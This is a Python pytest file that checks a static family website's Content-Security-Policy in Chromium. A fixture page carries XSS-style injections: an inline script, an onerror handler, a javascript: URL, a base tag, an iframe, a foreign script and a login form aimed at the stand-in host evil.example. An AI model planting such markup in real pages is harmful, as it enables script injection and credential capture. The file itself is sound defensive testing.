"""The Content-Security-Policy stops injected code in a real browser (Chromium).

The build never publishes an injected script (tests/test_corpus.py,
tests/test_properties.py); this is the second wall, for the day a bug lets one
through. A fixture page beside the real pages of a built site carries every kind of
injection the sanitiser removes: an inline script, an event handler, a script URL,
a script and a frame from another host, an inline style, a <base> and a form to
another host. Served with the production headers — by the test server that mirrors
deploy/nginx.conf and by nginx itself with deploy/nginx.conf — none of them runs,
and the browser reports the violations. Served without the headers, the same page
does run the code: the fixture really injects, and it is the policy that stops it.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from familiensite.pipeline import build_project
from tests.conftest import TODAY, make_project

pytestmark = pytest.mark.browser

INJECTED_PAGE = """<!doctype html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>Injektion</title>
<base href="https://evil.example/">
<style>body { background: rgb(255, 0, 0); }</style>
<script>window.__inline = "ran";</script>
<script src="https://evil.example/fremd.js"></script>
</head>
<body>
<h1 style="color: rgb(0, 128, 0)">Injektion</h1>
<img id="bild" src="/familie/gibt-es-nicht.png" alt="" onerror="window.__handler = 'ran'">
<a id="link" href="javascript:void(window.__url = 'ran')">Link</a>
<iframe id="rahmen" src="https://evil.example/rahmen"></iframe>
<form id="formular" action="https://evil.example/login" method="get"><input name="q" value="x"></form>
</body>
</html>
"""
FLAGS = "() => [window.__inline, window.__handler, window.__url]"


@pytest.fixture(scope="module")
def site_with_injection(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("csp") / "project")
    result = build_project(project, project / "site", today=TODAY)
    assert result.written, result.problems
    page = project / "site" / "injektion" / "index.html"
    page.parent.mkdir()
    page.write_text(INJECTED_PAGE, encoding="utf-8")
    return project / "site"


def open_injected(open_page: Callable[..., object], url: str) -> object:
    checked = open_page(url)
    page = checked.page  # type: ignore[attr-defined]
    page.wait_for_function("() => document.getElementById('bild').complete")  # the image has failed: its handler had its chance
    page.click("#link")  # a javascript: URL runs on click, if at all
    return checked


def assert_nothing_ran(checked: object) -> None:
    page = checked.page  # type: ignore[attr-defined]
    assert page.evaluate(FLAGS) == [None, None, None]
    assert page.evaluate("() => getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert page.evaluate("() => getComputedStyle(document.querySelector('h1')).color") != "rgb(0, 128, 0)"
    assert page.evaluate("() => document.baseURI").startswith(checked.origin)  # type: ignore[attr-defined]
    page.evaluate("() => 0")  # deliver pending violation reports
    directives = {v.directive for v in checked.csp_violations}  # type: ignore[attr-defined]
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "base-uri", "frame-src"} <= directives, directives
    loaded = [r for r in checked.foreign_requests() if r.status is not None]  # type: ignore[attr-defined]
    assert loaded == []  # nothing from another host was loaded


def test_the_test_servers_policy_blocks_every_injection(site_with_injection: Path, serve_static, open_page) -> None:
    server = serve_static(site_with_injection)
    assert_nothing_ran(open_injected(open_page, server.url("injektion/")))


def test_nginx_with_the_production_config_blocks_every_injection(site_with_injection: Path, nginx_server, open_page) -> None:
    server = nginx_server(site_with_injection)
    assert_nothing_ran(open_injected(open_page, server.url("injektion/")))


def test_without_the_policy_the_fixture_page_does_run_its_code(site_with_injection: Path, serve_static, open_page) -> None:
    server = serve_static(site_with_injection, headers={})
    checked = open_injected(open_page, server.url("injektion/"))
    # The javascript: URL runs in a task of its own after the click: wait until it has (a full CI run lost that race once).
    checked.page.wait_for_function("() => window.__url !== undefined")  # type: ignore[attr-defined]
    assert checked.page.evaluate(FLAGS) == ["ran", "ran", "ran"]  # type: ignore[attr-defined]
